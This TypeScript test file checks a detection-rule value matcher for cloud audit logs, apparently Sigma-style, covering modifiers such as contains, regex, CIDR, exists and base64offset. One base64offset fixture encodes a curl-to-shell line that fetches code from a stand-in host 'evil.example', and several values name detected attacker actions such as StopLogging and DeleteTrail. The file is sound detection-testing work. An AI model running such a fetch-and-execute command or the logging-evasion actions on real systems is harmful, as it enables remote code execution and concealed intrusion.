import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseFieldKey } from './modifiers.js';
import { compileValues } from './value-test.js';

function field(key: string, values: unknown) {
  return compileValues(parseFieldKey(key), values);
}

function check(key: string, values: unknown, value: unknown): boolean {
  return field(key, values).test(value);
}

test('plain values: whole-value, case-insensitive, numbers and booleans as text', () => {
  assert.equal(check('f', 'StopLogging', 'stoplogging'), true);
  assert.equal(check('f', 'StopLogging', 'StopLoggingNow'), false);
  assert.equal(check('f', '22', 22), true);
  assert.equal(check('f', 22, '22'), true);
  assert.equal(check('f', 'false', false), true);
  assert.equal(check('f', 'x', undefined), false);
  assert.equal(check('f', '', ''), true);
  assert.equal(check('f', '', undefined), false);
});

test('a list of values is OR; with all it is AND', () => {
  assert.equal(check('f', ['a', 'b'], 'B'), true);
  assert.equal(check('f', ['a', 'b'], 'c'), false);
  assert.equal(check('f|contains|all', ['curl', 'linux'], 'curl/8 (Linux)'), true);
  assert.equal(check('f|contains|all', ['curl', 'linux'], 'curl/8 (Windows)'), false);
});

test('an array in the record matches when any element does; with all each value may match another element', () => {
  assert.equal(check('f', '111122223333', ['999', '111122223333']), true);
  assert.equal(check('f', '111122223333', ['999']), false);
  assert.equal(check('f', '111122223333', []), false);
  assert.equal(check('f|all', ['a', 'b'], ['A', 'B', 'c']), true);
  assert.equal(check('f|all', ['a', 'b'], ['A', 'c']), false);
});

test('a field holding a map matches when a value inside it does (requestParameters|contains)', () => {
  const requestParameters = { userName: 'bob', policyDocument: '{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::<YOUR-BUCKET-NAME>/*"}' };
  assert.equal(check('f|contains|all', ['"s3:GetObject"', '"Allow"', '"arn:aws:s3:::<YOUR-BUCKET-NAME>/*"'], requestParameters), true);
  assert.equal(check('f|contains|all', ['"s3:GetObject"', '"Deny"'], requestParameters), false);
  assert.equal(check('f', 'bob', requestParameters), true);
  assert.equal(check('f', 'bob', [{ a: [{ b: 'BOB' }] }]), true);
  assert.equal(check('f', 'bob', {}), false);
});

test('contains, startswith, endswith keep wildcards of the value', () => {
  assert.equal(check('f|contains', 'red-team', 'stratus-RED-TEAM_1'), true);
  assert.equal(check('f|startswith', 'stratus', 'stratus-red-team'), true);
  assert.equal(check('f|startswith', 'red', 'stratus-red-team'), false);
  assert.equal(check('f|endswith', '/AdministratorAccess', 'arn:aws:iam::aws:policy/AdministratorAccess'), true);
  assert.equal(check('f|endswith', '/Administrator', 'arn:aws:iam::aws:policy/AdministratorAccess'), false);
  assert.equal(check('f|contains', 'a*c', 'xxabbbcxx'), true);
  assert.equal(check('f|contains', 'a\\*c', 'xxabbbcxx'), false);
  assert.equal(check('f|contains', 'a\\*c', 'xa*cx'), true);
  assert.equal(check('f|startswith', 'ab?d', 'abcdef'), true);
});

test('cased makes string comparisons case-sensitive', () => {
  assert.equal(check('f|cased', 'StopLogging', 'stoplogging'), false);
  assert.equal(check('f|cased', 'StopLogging', 'StopLogging'), true);
  assert.equal(check('f|contains|cased', 'Admin', 'xadminx'), false);
  assert.equal(check('f|contains|cased', 'Admin', 'xAdminx'), true);
});

test('re is a case-sensitive JavaScript regular expression with i, m, s flags', () => {
  assert.equal(check('f|re', '^arn:aws:iam::\\d{12}:root$', 'arn:aws:iam::123456789012:root'), true);
  assert.equal(check('f|re', '^ARN', 'arn:aws'), false);
  assert.equal(check('f|re|i', '^ARN', 'arn:aws'), true);
  assert.equal(check('f|re', '^b$', 'a\nb'), false);
  assert.equal(check('f|re|m', '^b$', 'a\nb'), true);
  assert.equal(check('f|re', 'a.b', 'a\nb'), false);
  assert.equal(check('f|re|s', 'a.b', 'a\nb'), true);
  assert.equal(check('f|re', '^2', 22), true);
  assert.equal(check('f|re', ['^x', '^y'], 'yes'), true);
  assert.throws(() => field('f|re', '(unclosed'), /invalid regular expression '\(unclosed'/);
});

test('cidr matches IPv4 and IPv6 addresses in the ranges, not names or ranges', () => {
  const ranges = ['10.0.0.0/8', '192.168.1.7', '2001:db8::/32'];
  assert.equal(check('f|cidr', ranges, '10.200.3.4'), true);
  assert.equal(check('f|cidr', ranges, '11.0.0.1'), false);
  assert.equal(check('f|cidr', ranges, '192.168.1.7'), true);
  assert.equal(check('f|cidr', ranges, '192.168.1.8'), false);
  assert.equal(check('f|cidr', ranges, '2001:db8:1::5'), true);
  assert.equal(check('f|cidr', ranges, '2001:db9::5'), false);
  assert.equal(check('f|cidr', ranges, 'cloudtrail.amazonaws.com'), false);
  assert.equal(check('f|cidr', ranges, '10.0.0.0/8'), false);
  assert.throws(() => field('f|cidr', '10.0.0.0/33'), /invalid CIDR '10.0.0.0\/33'/);
});

test('exists tests presence, not value', () => {
  assert.equal(check('f|exists', true, null), true);
  assert.equal(check('f|exists', true, ''), true);
  assert.equal(check('f|exists', true, undefined), false);
  assert.equal(check('f|exists', false, undefined), true);
  assert.equal(check('f|exists', false, 'x'), false);
  assert.throws(() => field('f|exists', 'yes'), /'exists' needs true or false/);
});

test('null matches an absent or null field', () => {
  assert.equal(check('f', null, undefined), true);
  assert.equal(check('f', null, null), true);
  assert.equal(check('f', null, ''), false);
  assert.equal(check('f', [null, 'x'], 'X'), true);
  assert.equal(check('f', [null, 'x'], undefined), true);
  assert.equal(check('f', [null, 'x'], 'y'), false);
  assert.throws(() => field('f|contains', null), /null cannot be used with 'contains'/);
  assert.throws(() => field('f|all', [null, 'x']), /null cannot be used with 'all'/);
});

test('gt, gte, lt, lte compare numbers; text that is no number never matches', () => {
  assert.equal(check('f|gt', 1024, 1025), true);
  assert.equal(check('f|gt', 1024, 1024), false);
  assert.equal(check('f|gte', '1024', '1024'), true);
  assert.equal(check('f|lt', 22, 21), true);
  assert.equal(check('f|lte', 22, 22), true);
  assert.equal(check('f|lte', 22, 23), false);
  assert.equal(check('f|lt', 22, 'abc'), false);
  assert.equal(check('f|lt', 22, ''), false);
  assert.equal(check('f|gt', 0, [0, 5]), true);
  assert.throws(() => field('f|gt', 'many'), /'gt' needs a number, not 'many'/);
});

test('base64 and base64offset match the encoded value', () => {
  assert.equal(check('f|base64', 'whoami', 'd2hvYW1p'), true);
  assert.equal(check('f|base64|contains', 'whoami', 'xxd2hvYW1pxx'), true);
  const encoded = Buffer.from('#!/bin/bash\ncurl http://evil.example | sh').toString('base64');
  assert.equal(check('f|base64offset|contains', 'http://evil.example', encoded), true);
  assert.equal(check('f|base64offset|contains', 'http://good.example', encoded), false);
});

test('exactValues lists plain equality values as written, and nothing else', () => {
  assert.deepEqual(field('eventName', ['StopLogging', 'DeleteTrail']).exactValues, ['StopLogging', 'DeleteTrail']);
  assert.deepEqual(field('eventName', 'Stop\\*').exactValues, ['Stop*']);
  assert.equal(field('eventName', 'Stop*').exactValues, undefined);
  assert.equal(field('eventName|contains', 'Stop').exactValues, undefined);
  assert.equal(field('eventName', [null, 'StopLogging']).exactValues, undefined);
  assert.equal(field('eventName|all', ['a', 'b']).exactValues, undefined);
});

test('values must be scalars; lists must not be empty; all needs two values', () => {
  assert.throws(() => field('f', { a: 1 }), /must be a string, number, boolean or null/);
  assert.throws(() => field('f', [['a']]), /must be a string, number, boolean or null/);
  assert.throws(() => field('f', []), /empty list of values/);
  assert.throws(() => field('f|contains|all', ['only']), /'all' needs a list of two or more values/);
});
